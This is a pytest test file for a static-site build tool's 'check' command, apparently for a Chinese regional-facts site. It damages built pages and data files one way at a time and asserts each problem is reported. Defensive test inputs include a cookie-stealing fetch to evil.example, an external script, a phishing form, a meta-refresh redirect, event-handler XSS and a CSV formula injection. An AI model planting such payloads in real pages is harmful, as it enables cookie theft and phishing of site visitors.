"""`python -m build_tools check` catches each kind of damage: a built copy is corrupted one
way at a time and check must exit 1 with a clear line naming the file and the problem."""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from conftest import PY, ROOT, build_project, run
from test_page_shapes7 import POST_ONE_CLAUSE_A_LINE_WITHOUT_MARKS

PAGES = ROOT / "tests" / "fixtures" / "pages"
GOOD = ["anji_zhejiang_county.txt", "foshan_guangdong_prefecture.txt"]


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    """Two clean seeds built, with the static site."""
    return build_project(tmp_path_factory.mktemp("check") / "p", [PAGES / name for name in GOOD], site=True)


@pytest.fixture()
def copy(pristine, tmp_path) -> Path:
    dest = tmp_path / "c"
    shutil.copytree(pristine, dest, ignore=shutil.ignore_patterns(".cache"))
    return dest


def check(project: Path) -> tuple[int, list[str], str]:
    proc = run([PY, "-m", "build_tools", "check", "--docs", "docs", "--site", "site"], project, check=False)
    assert "Traceback" not in proc.stderr
    assert proc.stdout.startswith("repair counts in article text: ")
    assert re.search(r"^check: \d+ problem\(s\)", proc.stdout, re.M)
    return proc.returncode, [l for l in proc.stderr.splitlines() if l.startswith("check: ")], proc.stdout


@pytest.fixture(scope="module")
def baseline(pristine) -> set[str]:
    """Problems the clean build already has (others' work in progress): new ones are what count."""
    _, lines, _ = check(pristine)
    return set(lines)


def new_problems(project: Path, baseline: set[str]) -> list[str]:
    code, lines, _ = check(project)
    new = [l for l in lines if l not in baseline]
    assert code == 1 and new, "check did not fail"
    return new


def _load(path: Path):
    return json.loads(path.read_text(encoding="utf-8"))


def _dump(path: Path, data) -> None:
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")


def _article_page(project: Path) -> tuple[dict, Path]:
    art = _load(project / "docs" / "data" / "articles.json")[0]
    return art, project / "docs" / art["page"]


def test_clean_build_output_format(pristine):
    code, lines, out = check(pristine)
    assert code in (0, 1)
    assert (code == 0) == (not lines)


def test_article_record_breaking_the_schema(copy, baseline):
    path = copy / "docs" / "data" / "articles.json"
    arts = _load(path)
    arts[0]["adcode"] = 330523  # a number, not a 6-digit string
    arts[0]["year"] = "2023"
    del arts[0]["authors"]
    _dump(path, arts)
    new = new_problems(copy, baseline)
    slug = arts[0]["slug"]
    assert any(l.startswith(f"check: articles.json {slug}: $.adcode:") for l in new), new
    assert any(l.startswith(f"check: articles.json {slug}: $.year:") for l in new), new
    assert any(f"articles.json {slug}: $: 'authors' is a required property" in l for l in new), new


def test_fact_record_breaking_the_schema(copy, baseline):
    path = copy / "docs" / "data" / "facts.json"
    facts = _load(path)
    assert facts, "the fixture pages have facts"
    facts[0]["value"] = "很多"
    facts[0]["qualifier"] = "roughly"
    _dump(path, facts)
    new = new_problems(copy, baseline)
    fid = facts[0]["id"]
    assert any(l.startswith(f"check: facts.json {fid}: $.value:") for l in new), new
    assert any(l.startswith(f"check: facts.json {fid}: $.qualifier:") for l in new), new


def test_data_file_not_a_list(copy, baseline):
    _dump(copy / "docs" / "data" / "facts.json", {"oops": 1})
    assert "check: facts.json: not a list of records (objects)" in new_problems(copy, baseline)


def test_data_file_not_json(copy, baseline):
    (copy / "docs" / "data" / "articles.json").write_text("[{", encoding="utf-8")
    new = new_problems(copy, baseline)
    assert any("cannot read data files" in l for l in new), new


def test_front_matter_breaking_the_schema(copy, baseline):
    art, page = _article_page(copy)
    text = page.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^adcode: .*$", "adcode: '12ab'", text, count=1)
    text = re.sub(r"(?m)^title: .*$", "title: ''", text, count=1)
    page.write_text(text, encoding="utf-8")
    new = new_problems(copy, baseline)
    assert any(l.startswith(f"check: {Path('docs') / art['page']}: front matter $.adcode:") for l in new), new
    assert any(l.startswith(f"check: {Path('docs') / art['page']}: front matter $.title:") for l in new), new


def test_front_matter_not_yaml(copy, baseline):
    art, page = _article_page(copy)
    page.write_text(page.read_text(encoding="utf-8").replace("---\n", "---\ntitle: [unclosed\n", 1), encoding="utf-8")
    new = new_problems(copy, baseline)
    assert any(l.startswith(f"check: {Path('docs') / art['page']}: front matter is not valid YAML") for l in new), new


def test_fact_quote_not_on_the_page(copy, baseline):
    path = copy / "docs" / "data" / "facts.json"
    facts = _load(path)
    facts[0]["quote"] = "这句话不在任何文章页面上，共计99个。"
    _dump(path, facts)
    new = new_problems(copy, baseline)
    assert f"check: facts.json {facts[0]['id']}: quote not found on its article page: 这句话不在任何文章页面上，共计99个。" in new


def test_fact_of_an_unknown_article(copy, baseline):
    path = copy / "docs" / "data" / "facts.json"
    facts = _load(path)
    facts[0]["article"] = "no-such-article"
    _dump(path, facts)
    assert f"check: facts.json {facts[0]['id']}: article no-such-article is not in articles.json" in new_problems(copy, baseline)


def test_article_without_a_region(copy, baseline):
    path = copy / "docs" / "data" / "articles.json"
    arts = _load(path)
    arts[0]["adcode"] = None
    arts[0]["region"] = None
    _dump(path, arts)
    assert f"check: articles.json {arts[0]['slug']}: no resolved region" in new_problems(copy, baseline)


def test_duplicate_slugs(copy, baseline):
    path = copy / "docs" / "data" / "articles.json"
    arts = _load(path)
    _dump(path, arts + [arts[0]])
    assert f"check: articles.json {arts[0]['slug']}: slug used by 2 articles" in new_problems(copy, baseline)


def test_missing_article_page(copy, baseline):
    art, page = _article_page(copy)
    page.unlink()
    assert f"check: {Path('docs') / art['page']}: page listed in articles.json is missing" in new_problems(copy, baseline)


@pytest.mark.parametrize("damage,kind", [
    ("文明城市创建文明城市创建", "doubled_han_run"),
    ("文明 城市", "space_between_han"),
    ("文明,城市", "halfwidth_punct_between_han"),
])
def test_repair_counts_above_zero(copy, baseline, damage, kind):
    art, page = _article_page(copy)
    text = page.read_text(encoding="utf-8")
    text, n = re.subn(r'(<p id="p1">(?:<span id="s1-1">)?)', rf"\g<1>{damage}。", text, count=1)
    assert n == 1
    page.write_text(text, encoding="utf-8")
    code, lines, out = check(copy)
    assert code == 1
    assert f"check: {Path('docs') / art['page']}: {kind} = 1" in lines
    assert re.search(rf"{kind}=[1-9]", out)


def test_paragraph_cut_mid_sentence_and_repeated_sentence(copy, baseline):
    art, page = _article_page(copy)
    text = page.read_text(encoding="utf-8")
    extra = '<p id="p90">文明城市创建工作取得明显成效。</p>\n<p id="p91">文明城市创建工作取得明显成效。</p>\n<p id="p92">文明城市创建工作正在</p>\n'
    text = text.replace("\n## ", "\n" + extra + "\n## ", 1)
    page.write_text(text, encoding="utf-8")
    new = new_problems(copy, baseline)
    assert any(l.endswith("repeated_sentence = 1") for l in new), new
    assert any("paragraph_stops_mid_sentence" in l for l in new), new


def _add_to_about_page(copy: Path, html: str) -> None:
    """Insert html at the end of the built about page's article."""
    page = copy / "site" / "about" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</article>", html + "</article>", 1), encoding="utf-8")


def test_broken_internal_link_and_anchor(copy, baseline):
    _add_to_about_page(copy, '<a href="../nowhere/">x</a><a href="../browse/#no-such-anchor">y</a>')
    new = new_problems(copy, baseline)
    assert "check: about/index.html: broken link ../nowhere/" in new
    assert "check: about/index.html: missing anchor ../browse/#no-such-anchor" in new


def test_unsafe_link_and_event_handler_in_site(copy, baseline):
    _add_to_about_page(copy, '<a href=" JavaScript:alert(1)">x</a><img src="a.png" onerror="alert(1)">')
    new = new_problems(copy, baseline)
    assert "check: about/index.html: unsafe link  JavaScript:alert(1)" in new
    assert "check: about/index.html: element with an event-handler attribute <img onerror=" in new


def test_link_check_skipped_without_site(copy, baseline):
    shutil.rmtree(copy / "site")
    proc = run([PY, "-m", "build_tools", "check", "--docs", "docs", "--site", "site"], copy, check=False)
    assert "(no site/: link check skipped)" in proc.stdout and "Traceback" not in proc.stderr


def test_placeholder_address_is_a_warning_and_an_error_for_publishing(pristine):
    """The pristine site is built with mkdocs.yml's placeholder address: `check` says so (a
    warning, exit 0 when nothing else is wrong); `check --publishing` refuses it."""
    proc = run([PY, "-m", "build_tools", "check", "--docs", "docs", "--site", "site"], pristine, check=False)
    assert any(l.startswith("warning: ") and "SITE_URL" in l for l in proc.stderr.splitlines())
    pub = run([PY, "-m", "build_tools", "check", "--docs", "docs", "--site", "site", "--publishing"], pristine,
              check=False)
    assert pub.returncode == 1 and any("placeholder address" in l for l in pub.stderr.splitlines())


# Tampering with a built page or the data files (issue 13, break 10).

@pytest.mark.parametrize("html,words", [
    ('<script src="https://evil.example/x.js"></script>', "script not from the theme's assets"),
    ('<script>fetch("https://evil.example/"+document.cookie)</script>', "inline script not made by the theme"),
    ('<iframe src="https://evil.example/"></iframe>', "foreign element <iframe>"),
    ('<object data="x.swf"></object><embed src="x.swf">', "foreign element <object>"),
    ('<form action="https://evil.example/login"><input name="pw"></form>', "form not made by the theme"),
    ('<img src="https://evil.example/pixel.gif">', "external resource <img src="),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv="refresh">'),
    ('<div onmouseover="alert(1)">x</div>', "element with an event-handler attribute <div onmouseover="),
    ('<iframe srcdoc="x"></iframe><area href="javascript:alert(1)">', "unsafe URL in <area href="),
])
def test_tampered_page_is_caught(copy, baseline, html, words):
    _add_to_about_page(copy, html)
    new = new_problems(copy, baseline)
    assert any(l.startswith("check: about/index.html: ") and words in l for l in new), new


def test_fact_url_anchor_that_does_not_exist(copy, baseline):
    path = copy / "docs" / "data" / "facts.json"
    facts = _load(path)
    facts[0]["url"] = facts[0]["url"].split("#")[0] + "#s999-1"
    _dump(path, facts)
    assert f"check: facts.json {facts[0]['id']}: url anchor #s999-1 does not exist on its article page" in new_problems(copy, baseline)


def test_quote_cut_to_a_prefix(copy, baseline):
    path = copy / "docs" / "data" / "facts.json"
    facts = _load(path)
    f = next(f for f in facts if len(f["quote"]) > 12)
    f["quote"] = f["quote"][:10]
    _dump(path, facts)
    new = new_problems(copy, baseline)
    assert any(l.startswith(f"check: facts.json {f['id']}: quote is not the whole sentence #") for l in new), new


def test_facts_csv_edited_on_its_own(copy, baseline):
    path = copy / "docs" / "data" / "facts.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[3] = lines[3].replace(",", ",=HYPERLINK(1)", 1)
    path.write_text("\n".join(lines), encoding="utf-8")
    assert "check: facts.csv: line 4 differs from facts.json (edited on its own? rebuild with `python -m build_tools build`)" \
        in new_problems(copy, baseline)


# a post with figures in its lines set as headings (test_page_shapes7), and a sentence ending
# with the source's own ……
POST_WITH_FIGURES_IN_HEADINGS = POST_ONE_CLAUSE_A_LINE_WITHOUT_MARKS.rstrip("\n") + "全市已评出文明家庭1200户、文明社区36个……\n"


def test_quotes_from_headings_and_ending_in_an_ellipsis_are_found_on_the_page(tmp_path):
    """A post's line set as a heading holds a figure (its quote is the heading), and a sentence
    ending with the source's own …… is quoted whole: neither is a quote missing from its page."""
    (tmp_path / "src").mkdir()
    seed = tmp_path / "src" / "jinghong_post.txt"
    seed.write_text(POST_WITH_FIGURES_IN_HEADINGS, encoding="utf-8")
    project = build_project(tmp_path / "p", [seed])
    facts = json.loads((project / "docs" / "data" / "facts.json").read_text(encoding="utf-8"))
    assert {(f["value"], f["unit"]) for f in facts} >= {(18, "支"), (93, "%"), (1200, "户")}
    proc = run([PY, "-m", "build_tools", "check", "--docs", "docs"], project, check=False)
    assert "Traceback" not in proc.stderr
    assert not [l for l in proc.stderr.splitlines() if "quote not found" in l]
